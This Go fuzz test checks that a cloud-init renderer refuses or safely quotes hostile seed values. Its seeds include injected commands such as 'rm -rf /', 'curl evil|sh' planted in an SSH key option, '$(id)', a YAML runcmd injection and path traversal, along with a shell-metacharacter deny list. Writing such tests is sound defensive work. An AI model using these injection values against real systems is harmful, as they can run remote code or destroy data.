package cloudinit

import (
	"bufio"
	"bytes"
	"reflect"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

// FuzzRender renders seeds from hostile values (hostnames, SSH keys, user names, ids, URLs).
// It never panics; a seed is either refused or renders documents that are valid YAML with
// exactly the keys we write, each value carried through unchanged (no injected keys, users or
// commands), and an instance.env of exactly three plain assignments.
func FuzzRender(f *testing.F) {
	s := seed()
	f.Add(s.Hostname, s.Username, key, key, s.InstanceID, "", s.TelemetryToken, "", s.MAC)
	f.Add("gpuaas-a\nruncmd: [reboot]", "debian", key+"\nssh-rsa AAAA evil", "", "a1", "http://10.0.0.1:9110/x", "t", "/var/lib/gpuaas/slice-ready", "52:54:00:01:00:00")
	f.Add("h", "root", key+" #: {x: 1}", key, "a1\"", "http://h/;reboot", "t$(id)", "/x; rm -rf /", "52:54:00:01:00:0A")
	f.Add("h", "debian", `command="curl evil|sh",no-pty `+key, "", "a1", "http://[::1]:9110/x?a=b&c", "t", "/tmp/../etc/x", "52:54:00:01:00:00")
	f.Add("h", "debian", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a\u2028b: c", "", "a1", "https://h:1/p", "", "", "52:54:00:01:00:00")
	f.Fuzz(func(t *testing.T, hostname, user, k1, term, id, turl, token, marker, mac string) {
		in := Seed{InstanceID: id, Hostname: hostname, Username: user, SSHPublicKeys: []string{k1}, TerminalKey: term, MAC: mac,
			IP: "10.100.0.10", TelemetryToken: token, TelemetryURL: turl, ReadyMarker: marker}
		files, err := Render(in)
		if err != nil {
			if in.Validate() == nil {
				t.Fatalf("valid seed failed to render: %v", err)
			}
			return
		}
		if !bytes.HasPrefix(files.UserData, []byte("#cloud-config\n")) {
			t.Fatalf("user-data header: %q", files.UserData)
		}
		var ud map[string]any
		if err := yaml.Unmarshal(files.UserData, &ud); err != nil {
			t.Fatalf("user-data is not YAML: %v\n%s", err, files.UserData)
		}
		allowed := map[string]bool{"hostname": true, "preserve_hostname": true, "users": true, "ssh_pwauth": true, "disable_root": true,
			"write_files": true, "runcmd": true}
		for k := range ud {
			if !allowed[k] {
				t.Fatalf("injected top-level key %q:\n%s", k, files.UserData)
			}
		}
		if ud["hostname"] != hostname || ud["ssh_pwauth"] != false || ud["disable_root"] != true {
			t.Fatalf("hostname/ssh_pwauth/disable_root changed:\n%s", files.UserData)
		}
		users, _ := ud["users"].([]any)
		if len(users) != 2 || users[0] != "default" {
			t.Fatalf("users: %#v", ud["users"])
		}
		u, _ := users[1].(map[string]any)
		want := []any{k1}
		if term != "" {
			want = append(want, term)
		}
		if u["name"] != user || !reflect.DeepEqual(u["ssh_authorized_keys"], want) || len(u) != 6 {
			t.Fatalf("user entry changed: %#v", u)
		}
		for _, k := range want {
			if strings.ContainsAny(k.(string), "\r\n") {
				t.Fatalf("a multi-line key was accepted: %q", k)
			}
		}
		wf, _ := ud["write_files"].([]any)
		if len(wf) != 1 && len(wf) != 4 {
			t.Fatalf("write_files: %d entries", len(wf))
		}
		env, _ := wf[0].(map[string]any)["content"].(string)
		checkEnv(t, env, map[string]string{"GPUAAS_INSTANCE_ID": id, "GPUAAS_TELEMETRY_TOKEN": token, "GPUAAS_TELEMETRY_URL": turl})
		rc, _ := ud["runcmd"].([]any)
		last, _ := rc[len(rc)-1].([]any)
		if m := marker; m != "" && (len(last) != 3 || !strings.HasSuffix(last[2].(string), "> "+m) || strings.ContainsAny(m, " ;&|$`\\'\"\n<>(){}*?")) {
			t.Fatalf("ready marker command: %#v", last)
		}
		var md map[string]any
		if err := yaml.Unmarshal(files.MetaData, &md); err != nil || len(md) != 2 || md["instance-id"] != id || md["local-hostname"] != hostname {
			t.Fatalf("meta-data: %v\n%s", err, files.MetaData)
		}
		var nc struct {
			Version   int                       `yaml:"version"`
			Ethernets map[string]map[string]any `yaml:"ethernets"`
		}
		if err := yaml.Unmarshal(files.NetworkConfig, &nc); err != nil || len(nc.Ethernets) != 1 ||
			nc.Ethernets["eth0"]["match"].(map[string]any)["macaddress"] != mac {
			t.Fatalf("network-config: %v\n%s", err, files.NetworkConfig)
		}
	})
}

// checkEnv: instance.env (sourced by sh in the guest) holds exactly the expected plain
// assignments, with no character a shell would act on.
func checkEnv(t *testing.T, env string, want map[string]string) {
	t.Helper()
	got := map[string]string{}
	sc := bufio.NewScanner(strings.NewReader(env))
	for sc.Scan() {
		k, v, ok := strings.Cut(sc.Text(), "=")
		if !ok {
			t.Fatalf("instance.env line %q", sc.Text())
		}
		if strings.ContainsAny(v, " \t;&|$`\\'\"<>(){}*\r#") {
			t.Fatalf("instance.env %s=%q holds a shell metacharacter", k, v)
		}
		got[k] = v
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("instance.env = %q, want %v", env, want)
	}
}
